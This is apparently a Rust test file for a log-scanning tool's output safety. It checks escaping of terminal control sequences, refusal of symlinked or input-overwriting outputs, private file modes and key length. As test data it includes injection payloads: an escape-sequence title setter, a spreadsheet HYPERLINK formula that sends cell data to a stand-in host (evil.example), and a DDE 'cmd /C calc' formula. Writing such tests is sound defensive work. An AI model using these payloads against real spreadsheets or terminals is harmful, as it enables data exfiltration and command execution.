//! Output safety: log content never reaches a terminal, a spreadsheet or a
//! report unescaped; an output never overwrites an input, follows a link,
//! or keeps an old file's looser mode; pseudonym keys are long enough; the
//! table fits the terminal while machine outputs stay byte-identical.

use crate::util::data;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// An account carrying a colour escape, a bell and a right-to-left
/// override: it reads 70 records in a minute, so `rate-absolute` fires.
const ACCOUNT: &str = "evil\u{1b}[31m\u{7}\u{202e}x";
/// How the table, CSV and explain must show it.
const ACCOUNT_SHOWN: &str = "evil\\x1b[31m\\x07\\u{202e}x";

/// Runs the binary with `COLUMNS` set as given (removed for `None`).
fn sw(args: &[&str], columns: Option<&str>) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_scrapewatch"));
    c.args(args).env_remove("COLUMNS");
    if let Some(n) = columns {
        c.env("COLUMNS", n);
    }
    c.output().unwrap()
}

fn code(out: &Output) -> i32 {
    out.status.code().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// 70 reads in 56 seconds by `account`, with escapes in the system and
/// the user agent too.
fn hostile_log(dir: &Path, account: &str) -> PathBuf {
    let path = dir.join("hostile.ndjson");
    let mut text = String::new();
    for i in 0..70u32 {
        let ms = i * 800;
        let line = serde_json::json!({
            "ts": format!("2025-06-02T18:00:{:02}.{:03}Z", ms / 1000, ms % 1000),
            "account": account,
            "ip": "198.51.100.7",
            "system": "member\u{1b}]0;pwned\u{7}ship",
            "action": "read",
            "record": (1000 + i * 97).to_string(),
            "user_agent": "curl\u{1b}[2J\u{2066}/8",
            "status": 200,
        });
        text.push_str(&line.to_string());
        text.push('\n');
    }
    std::fs::write(&path, text).unwrap();
    path
}

fn assert_no_raw_controls(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2066}'] {
        assert!(!text.contains(c), "{what}: raw {c:?} in\n{text}");
    }
}

#[test]
fn hostile_text_is_escaped_in_table_csv_explain_and_report() {
    let dir = tempfile::tempdir().unwrap();
    let log = hostile_log(dir.path(), ACCOUNT);

    let table = sw(&["scan", s(&log)], None);
    assert_eq!(code(&table), 0, "{}", stderr(&table));
    assert_no_raw_controls(&table.stdout, "table");
    assert_no_raw_controls(&table.stderr, "summary");
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(text.contains(ACCOUNT_SHOWN), "{text}");
    assert!(text.contains("rate-absolute"), "{text}");
    // The wrapped layout escapes as well.
    let narrow = sw(&["scan", s(&log)], Some("60"));
    assert_no_raw_controls(&narrow.stdout, "narrow table");

    let csv = sw(&["scan", s(&log), "--output-format", "csv"], None);
    assert_no_raw_controls(&csv.stdout, "csv");
    let text = String::from_utf8_lossy(&csv.stdout);
    let row = scrapewatch::format::csv::split_owned(text.lines().nth(1).unwrap()).unwrap();
    assert_eq!(row[6], ACCOUNT_SHOWN);

    // JSON escapes them as \uXXXX and keeps the exact value.
    let json = sw(&["scan", s(&log), "--output-format", "json"], None);
    assert_no_raw_controls(&json.stdout, "json");
    let text = String::from_utf8_lossy(&json.stdout);
    assert!(text.contains(r"\u202e"), "{text}");
    let f: serde_json::Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!(f["identity"], ACCOUNT);

    // The SIEM formats: JSON-escaped, or (CEF) escaped as for people.
    for format in ["ocsf", "ecs", "splunk-hec", "cef"] {
        let out = sw(&["scan", s(&log), "--output-format", format], None);
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        assert!(!out.stdout.is_empty(), "{format}: no findings");
        assert_no_raw_controls(&out.stdout, format);
    }

    let explain = sw(&["explain", ACCOUNT, s(&log)], None);
    assert_eq!(code(&explain), 0, "{}", stderr(&explain));
    assert_no_raw_controls(&explain.stdout, "explain");
    let text = String::from_utf8_lossy(&explain.stdout);
    assert!(text.starts_with(ACCOUNT_SHOWN), "{text}");
    assert!(text.contains("curl\\x1b[2J\\u{2066}/8"), "{text}");
    assert!(text.contains("member\\x1b]0;pwned\\x07ship"), "{text}");
    let explain_json = sw(&["explain", "--json", "-", ACCOUNT, s(&log)], None);
    assert_no_raw_controls(&explain_json.stdout, "explain --json");
    let doc: serde_json::Value = serde_json::from_slice(&explain_json.stdout).unwrap();
    assert_eq!(doc["identity"], ACCOUNT);

    // The error for an unknown identity quotes the nearest ones.
    let unknown = sw(&["explain", "evil", s(&log)], None);
    assert_eq!(code(&unknown), 2);
    assert_no_raw_controls(&unknown.stderr, "explain error");
    assert!(
        stderr(&unknown).contains(ACCOUNT_SHOWN),
        "{}",
        stderr(&unknown)
    );

    let html = dir.path().join("report.html");
    let report = sw(&["report", s(&log), "--html", s(&html)], None);
    assert_eq!(code(&report), 0, "{}", stderr(&report));
    assert_no_raw_controls(&std::fs::read(&html).unwrap(), "report");
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    for account in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB=1",
    ] {
        let log = hostile_log(dir.path(), account);
        let out = sw(&["scan", s(&log), "--output-format", "csv"], None);
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        let text = String::from_utf8_lossy(&out.stdout);
        let row = scrapewatch::format::csv::split_owned(text.lines().nth(1).unwrap()).unwrap();
        assert!(
            !row[6].starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{account}: {text}"
        );
        if account.starts_with('\t') {
            assert_eq!(row[6], "\\x09TAB=1");
        } else {
            assert_eq!(row[6], format!("'{account}"));
        }
        // Our numbers stay numbers.
        assert!(row[5].parse::<u8>().is_ok(), "{text}");
        assert!(row[9].parse::<u64>().is_ok(), "{text}");
    }
}

#[test]
fn an_output_that_is_an_input_is_refused_and_the_input_kept() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.ndjson");
    std::fs::copy(data("sample.ndjson"), &log).unwrap();
    let hard = dir.path().join("hard-link.ndjson");
    std::fs::hard_link(&log, &hard).unwrap();
    let watchlist = dir.path().join("watchlist.csv");
    std::fs::write(&watchlist, "account,kind\nsvc-sync,allow\n").unwrap();
    let key = dir.path().join("key");
    std::fs::write(&key, [7u8; 32]).unwrap();
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "").unwrap();
    let before: Vec<Vec<u8>> = [&log, &watchlist, &key, &config]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    let (l, h, w, k, c, d) = (
        s(&log),
        s(&hard),
        s(&watchlist),
        s(&key),
        s(&config),
        s(dir.path()),
    );
    let cases: Vec<Vec<&str>> = vec![
        vec!["scan", l, "-o", l],
        vec!["scan", l, "--summary-json", l],
        vec!["scan", l, "-o", h],
        vec!["scan", d, "-o", l],
        vec!["scan", l, "--watchlist", w, "-o", w],
        vec!["scan", l, "--pseudonymize", k, "-o", k],
        vec!["scan", l, "--config", c, "--summary-json", c],
        vec!["report", l, "--html", l],
        vec![
            "sweep",
            l,
            "--param",
            "rules.sequential-read.min_run",
            "--values",
            "5",
            "--json",
            l,
        ],
    ];
    for args in cases {
        let out = sw(&args, None);
        assert_eq!(code(&out), 2, "{args:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("is also an input"),
            "{args:?}: {}",
            stderr(&out)
        );
        let after: Vec<Vec<u8>> = [&log, &watchlist, &key, &config]
            .iter()
            .map(|p| std::fs::read(p).unwrap())
            .collect();
        assert!(after == before, "{args:?} changed an input");
    }
    // Two outputs naming one file.
    let out = dir.path().join("out");
    std::fs::write(&out, "").unwrap();
    let both = sw(&["scan", l, "-o", s(&out), "--summary-json", s(&out)], None);
    assert_eq!(code(&both), 2, "{}", stderr(&both));
}

#[test]
fn outputs_replace_an_old_file_with_a_private_one_and_leave_no_temporary() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.ndjson");
    std::fs::copy(data("sample.ndjson"), &log).unwrap();
    let outs = ["findings.txt", "summary.json", "report.html"].map(|n| dir.path().join(n));
    for p in &outs {
        std::fs::write(p, "old contents\n").unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let scan = sw(
        &[
            "scan",
            s(&log),
            "-o",
            s(&outs[0]),
            "--summary-json",
            s(&outs[1]),
        ],
        None,
    );
    assert_eq!(code(&scan), 0, "{}", stderr(&scan));
    let report = sw(&["report", s(&log), "--html", s(&outs[2])], None);
    assert_eq!(code(&report), 0, "{}", stderr(&report));
    for p in &outs {
        let mode = std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", p.display());
        assert_ne!(std::fs::read(p).unwrap(), b"old contents\n");
    }
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "events.ndjson",
            "findings.txt",
            "report.html",
            "summary.json"
        ]
    );
}

#[test]
fn a_symlink_at_an_output_path_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.ndjson");
    std::fs::copy(data("sample.ndjson"), &log).unwrap();
    let precious = dir.path().join("precious.txt");
    std::fs::write(&precious, "keep me\n").unwrap();
    let link = dir.path().join("out.txt");
    std::os::unix::fs::symlink(&precious, &link).unwrap();
    for flag in ["-o", "--summary-json"] {
        let out = sw(&["scan", s(&log), flag, s(&link)], None);
        assert_eq!(code(&out), 2, "{flag}: {}", stderr(&out));
        assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    }
    let out = sw(&["report", s(&log), "--html", s(&link)], None);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert_eq!(std::fs::read(&precious).unwrap(), b"keep me\n");
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());

    // generate keeps ordinary semantics but does not follow a link either.
    let gen = dir.path().join("gen");
    std::fs::create_dir(&gen).unwrap();
    std::os::unix::fs::symlink(&precious, gen.join("labels.json")).unwrap();
    let out = sw(
        &[
            "generate",
            "--out",
            s(&gen),
            "--events",
            "1000",
            "--days",
            "2",
        ],
        None,
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert_eq!(std::fs::read(&precious).unwrap(), b"keep me\n");
}

#[test]
fn short_pseudonym_keys_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let log = data("sample.ndjson");
    let key = dir.path().join("key");
    for (len, expected) in [(0, 2), (1, 2), (15, 2), (16, 0)] {
        std::fs::write(&key, vec![b'k'; len]).unwrap();
        let out = sw(&["scan", s(&log), "--pseudonymize", s(&key)], None);
        assert_eq!(code(&out), expected, "{len} bytes: {}", stderr(&out));
        if expected == 2 {
            let err = stderr(&out);
            assert!(err.contains(s(&key)), "{err}");
            assert!(err.contains(&format!("{len} byte")), "{err}");
            assert!(err.contains("head -c 32 /dev/urandom"), "{err}");
        }
    }
    std::fs::write(&key, "k").unwrap();
    let refused = sw(
        &[
            "report",
            s(&log),
            "--html",
            s(&dir.path().join("r.html")),
            "--pseudonymize",
            s(&key),
        ],
        None,
    );
    assert_eq!(code(&refused), 2, "{}", stderr(&refused));
}

#[test]
fn the_table_fits_the_terminal_and_machine_outputs_do_not_change() {
    let contest = data("contest");
    let events = contest.join("events.ndjson.gz");
    let watchlist = contest.join("watchlist.csv");
    let args = ["scan", "-q", s(&events), "--watchlist", s(&watchlist)];
    let wide = sw(&args, None);
    assert_eq!(code(&wide), 0, "{}", stderr(&wide));
    let wide = String::from_utf8(wide.stdout).unwrap();
    assert!(wide.lines().any(|l| l.chars().count() > 80));
    for columns in ["80", "100"] {
        let narrow = sw(&args, Some(columns));
        let narrow = String::from_utf8(narrow.stdout).unwrap();
        let n: usize = columns.parse().unwrap();
        for line in narrow.lines() {
            assert!(line.chars().count() <= n, "{columns}: {line:?}");
        }
        // Nothing is cut: every word of the wide table is in the narrow one.
        let words = |t: &str| {
            let mut w: Vec<String> = t
                .split(|c: char| c.is_whitespace() || c == ',')
                .filter(|w| !w.is_empty())
                .map(|w| w.to_string())
                .collect();
            w.sort();
            w.dedup();
            w
        };
        let narrow_words = words(&narrow);
        for w in words(&wide) {
            let w = w.rsplit(':').next().unwrap().to_string();
            assert!(
                narrow_words.iter().any(|n| n.contains(&w)),
                "{columns}: {w} missing"
            );
        }
    }
    for format in ["json", "csv", "ocsf", "ecs", "splunk-hec", "cef"] {
        let mut a = args.to_vec();
        a.extend(["--output-format", format]);
        let reference = sw(&a, None).stdout;
        for columns in ["40", "1000"] {
            assert!(
                sw(&a, Some(columns)).stdout == reference,
                "{format} changed with COLUMNS={columns}"
            );
        }
    }
}
